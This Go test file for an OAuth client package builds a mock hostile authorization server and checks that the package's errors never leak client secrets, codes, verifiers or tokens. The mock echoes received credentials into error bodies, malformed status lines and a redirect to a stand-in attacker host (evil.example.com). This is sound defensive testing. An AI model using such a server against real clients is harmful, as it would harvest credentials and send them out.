package upstreamauth

import (
	"encoding/base64"
	"errors"
	"fmt"
	"io"
	"net/http"
	"net/http/httptest"
	"net/url"
	"strings"
	"sync"
	"testing"

	"golang.org/x/oauth2"
	"pgregory.net/rapid"
)

// The ways a hostile authorization server answers, each quoting back everything it was sent.
const (
	answerJSONError    = iota // 400 with the OAuth error and description in JSON
	answerFormError           // 400 with them form-encoded
	answer500                 // 500 with a text body
	answerRedirect            // 302 to a URL holding it all, with a body
	answerBadTokenType        // 200 with a token whose token_type is the echo
	answerBadToken            // 200 with an access token no header can carry
	answerNotJSON             // 200 text/plain
	answerReason              // 400 whose reason phrase is the echo
	answerStatusLine          // a malformed status line
	answerRegistered          // 201 registering another client, with the issued secret
	answerKinds
)

// hostile is an authorization server that quotes back, in every part of its answer it can,
// everything a request sent it: the form values, the raw body, the Authorization header and
// the credentials in it. Where its answer is a token or a registration, the secret it issues
// there (issued) is in it, beside an echo that gets the answer refused.
type hostile struct {
	mu     sync.Mutex
	kind   int
	issued string
}

func (h *hostile) set(kind int, issued string) {
	h.mu.Lock()
	h.kind, h.issued = kind, issued
	h.mu.Unlock()
}

func (h *hostile) ServeHTTP(w http.ResponseWriter, r *http.Request) {
	h.mu.Lock()
	kind, issued := h.kind, h.issued
	h.mu.Unlock()
	body, _ := io.ReadAll(io.LimitReader(r.Body, 1<<16))
	var parts []string
	if form, err := url.ParseQuery(string(body)); err == nil {
		for _, vs := range form {
			parts = append(parts, vs...)
		}
	}
	if user, pass, ok := r.BasicAuth(); ok {
		parts = append(parts, user, pass)
	}
	parts = append(parts, string(body), r.Header.Get("Authorization"))
	echo := strings.Join(parts, "|")
	line := strings.NewReplacer("\r", "", "\n", "", " ", "_").Replace(echo)

	writeJSON := func(status int, v string) {
		w.Header().Set("Content-Type", "application/json")
		w.WriteHeader(status)
		io.WriteString(w, v)
	}
	q := func(s string) string { return fmt.Sprintf("%q", s) }
	switch kind {
	case answerJSONError:
		writeJSON(400, `{"error":`+q(echo)+`,"error_description":`+q(echo)+`,"error_uri":`+q(echo)+`}`)
	case answerFormError:
		w.Header().Set("Content-Type", "application/x-www-form-urlencoded")
		w.WriteHeader(400)
		io.WriteString(w, url.Values{"error": {echo}, "error_description": {echo}}.Encode())
	case answer500:
		w.Header().Set("Content-Type", "text/plain")
		w.WriteHeader(500)
		io.WriteString(w, echo)
	case answerRedirect:
		w.Header().Set("Location", "https://evil.example.com/?e="+url.QueryEscape(echo))
		w.WriteHeader(302)
		io.WriteString(w, echo)
	case answerBadTokenType:
		writeJSON(200, `{"access_token":"ok","token_type":`+q(echo)+`,"refresh_token":`+q(issued)+`}`)
	case answerBadToken:
		writeJSON(200, `{"access_token":`+q(issued+" "+line)+`,"token_type":"Bearer"}`)
	case answerNotJSON:
		w.Header().Set("Content-Type", "text/plain")
		io.WriteString(w, echo)
	case answerReason, answerStatusLine:
		conn, buf, err := http.NewResponseController(w).Hijack()
		if err != nil {
			return
		}
		defer conn.Close()
		if kind == answerReason {
			buf.WriteString("HTTP/1.1 400 " + line + "\r\nContent-Length: 0\r\nConnection: close\r\n\r\n")
		} else {
			buf.WriteString("HTTP/1.1 " + line + "\r\n\r\n")
		}
		buf.Flush()
	case answerRegistered:
		writeJSON(201, `{"client_id":"c1","client_secret":`+q(issued)+`,"token_endpoint_auth_method":`+q(line)+`,"redirect_uris":["https://evil.example.com/"]}`)
	}
}

// TestNoSecretInErrors: whatever an authorization server answers, no error of the package holds
// a secret the request carried or the answer held: the client's secret, a code, a verifier, a
// state, a refresh token, a token to revoke, an initial access token, or a secret the server
// issued. The server quotes all of them back in every place it can: the OAuth error and its
// description, the body, a redirect's Location, the status line.
func TestNoSecretInErrors(t *testing.T) {
	h := &hostile{}
	srv := httptest.NewServer(h)
	t.Cleanup(srv.Close)
	secret := rapid.StringMatching(`[A-Za-z0-9._~+/=-]{16,40}`)

	rapid.Check(t, func(rt *rapid.T) {
		kind := rapid.IntRange(0, answerKinds-1).Draw(rt, "answer")
		s := map[string]string{}
		for _, name := range []string{"client secret", "state", "verifier", "code", "refresh token", "token", "initial access token", "issued"} {
			s[name] = secret.Draw(rt, name)
		}
		h.set(kind, s["issued"])
		style := rapid.SampledFrom([]oauth2.AuthStyle{oauth2.AuthStyleInHeader, oauth2.AuthStyleInParams, oauth2.AuthStyleAutoDetect}).Draw(rt, "style")
		f := &Flow{
			Server:      serverAt(srv.URL),
			Client:      Client{ID: "c1", Secret: s["client secret"], AuthStyle: style},
			Resource:    "https://files.example.com/mcp",
			RedirectURL: "http://127.0.0.1/callback",
			Scopes:      []string{"files:read"},
		}
		p := Pending{State: s["state"], Verifier: s["verifier"]}
		basic := base64.StdEncoding.EncodeToString([]byte("c1:" + url.QueryEscape(s["client secret"])))
		ctx := t.Context()

		errs := map[string]error{}
		_, errs["exchange"] = f.Exchange(ctx, nil, p, url.Values{"state": {p.State}, "code": {s["code"]}})
		echo := strings.Join([]string{s["client secret"], s["state"], s["verifier"], s["code"]}, "|")
		_, errs["error callback"] = f.Exchange(ctx, nil, p, url.Values{"state": {p.State}, "code": {s["code"]}, "error": {echo}, "error_description": {echo}})
		_, errs["refresh"] = f.Refresh(ctx, nil, s["refresh token"])
		errs["revoke"] = f.Revoke(ctx, nil, s["token"])
		_, errs["register"] = Register(ctx, nil, f.Server, RegistrationRequest{RedirectURIs: []string{f.RedirectURL}, TokenEndpointAuthMethod: AuthMethodBasic, InitialAccessToken: s["initial access token"]})

		for op, err := range errs {
			if err == nil {
				if op != "revoke" && op != "register" {
					rt.Fatalf("%s: no error from a hostile answer %d", op, kind)
				}
				continue
			}
			for _, msg := range []string{err.Error(), fmt.Sprintf("%+v", err), fmt.Sprintf("%#v", err)} {
				for name, v := range s {
					if strings.Contains(msg, v) || strings.Contains(msg, url.QueryEscape(v)) {
						rt.Fatalf("%s, answer %d: the error holds the %s: %s", op, kind, name, msg)
					}
				}
				if strings.Contains(msg, basic) {
					rt.Fatalf("%s, answer %d: the error holds the client's Basic credentials: %s", op, kind, msg)
				}
			}
			if e, ok := errors.AsType[*Error](err); ok {
				for name, v := range s {
					if strings.Contains(e.Code+e.Description, v) {
						rt.Fatalf("%s, answer %d: the *Error's fields hold the %s", op, kind, name)
					}
				}
			}
		}
	})
}
